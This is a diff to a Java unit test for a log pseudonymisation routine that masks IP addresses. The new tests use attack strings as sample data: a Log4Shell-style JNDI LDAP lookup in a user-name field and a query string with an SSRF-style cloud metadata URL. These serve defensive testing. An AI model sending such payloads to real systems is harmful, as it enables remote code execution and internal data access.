@@ -186,6 +186,7 @@ class PseudonymsTest {
           host:2001:470::1                | host:A
           2001:470::1: refused            | A: refused
           2001:0470:0:0:0:0:0:1           | A
+          %5B2001:470::1%5D               | %5BA%5D
           fe 2001:470::1%eth0             | fe A%eth0
           {8193,1136,0,0,0,0,0,1}         | {A}
           """)
@@ -211,6 +212,25 @@ class PseudonymsTest {
       })
   void whatOnlyLooksLikeAnAddressStays(String text) {
     assertThat(message(text)).isEqualTo(text);
+  }
+
+  @Test
+  void whereARequestWasToLeadStaysUnlessItIsTheClientItself() {
+    String query =
+        "url=http://169.254.169.254/&b=http://[::ffff:10.0.0.1]/&c=203.0.113.7&d=10.9.9.9";
+    Map<String, Object> hidden = hidden(Map.of("source.ip", "10.9.9.9", "url.query", query));
+    assertThat(hidden.get("url.query"))
+        .isEqualTo(
+            query
+                .replace("203.0.113.7", address("203.0.113.7"))
+                .replace("10.9.9.9", address("10.9.9.9")));
+  }
+
+  @Test
+  void anAttackInThePlaceOfANameStaysButForItsAddress() {
+    String attack = "${jndi:ldap://203.0.113.7/a}";
+    assertThat(hidden(Map.of("user.name", attack)))
+        .containsEntry("user.name", attack.replace("203.0.113.7", address("203.0.113.7")));
   }
 
   @Test
